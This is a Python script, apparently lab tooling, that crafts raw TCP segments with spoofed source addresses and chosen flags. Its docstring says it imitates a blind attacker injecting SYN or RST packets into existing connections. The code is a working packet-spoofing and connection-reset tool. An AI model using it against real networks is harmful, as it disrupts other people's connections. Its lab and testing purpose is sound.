#!/usr/bin/python3
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""Send bare TCP segments with a chosen tuple, outside any socket.

    raw_tcp.py DST DPORT SPORT [--src ADDR] [--flags S] [--seq N]
               [--count N] [--interval S]

What a blind attacker on the segment does: a SYN that claims the port of a
connection a client already has, or a RST or SYN "from" that client
(--src: the source address is spoofed; the kernel of the sending namespace
knows nothing of the segment). --flags takes the letters S, A, R, F, P; the
sequence number is random unless --seq is given: the attacker does not
know it. Used only inside the lab's namespaces.
"""
import argparse
import random
import socket
import struct
import time

FLAGS = {"F": 0x01, "S": 0x02, "R": 0x04, "P": 0x08, "A": 0x10}


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def segment(src, dst, sport, dport, flags, seq, ack):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr))
    return hdr[:16] + struct.pack("!H", checksum(pseudo + hdr)) + hdr[18:]


def ip_header(src, dst, length):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, random.getrandbits(16), 0,
                      64, socket.IPPROTO_TCP, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("dst")
    ap.add_argument("dport", type=int)
    ap.add_argument("sport", type=int)
    ap.add_argument("--src", help="spoofed source address (default: the host's own)")
    ap.add_argument("--flags", default="S")
    ap.add_argument("--seq", type=int, help="sequence number (default: random each time)")
    ap.add_argument("--ack", type=int, default=0)
    ap.add_argument("--count", type=int, default=3)
    ap.add_argument("--interval", type=float, default=0.2)
    args = ap.parse_args()
    flags = 0
    for letter in args.flags.upper():
        if letter not in FLAGS:
            ap.error(f"--flags: unknown flag {letter!r} (S, A, R, F, P)")
        flags |= FLAGS[letter]
    src = args.src
    if not src:
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.connect((args.dst, 9))
        src = probe.getsockname()[0]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(args.count):
        seq = args.seq if args.seq is not None else random.getrandbits(32)
        tcp = segment(src, args.dst, args.sport, args.dport, flags, seq, args.ack)
        raw.sendto(ip_header(src, args.dst, len(tcp)) + tcp, (args.dst, 0))
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
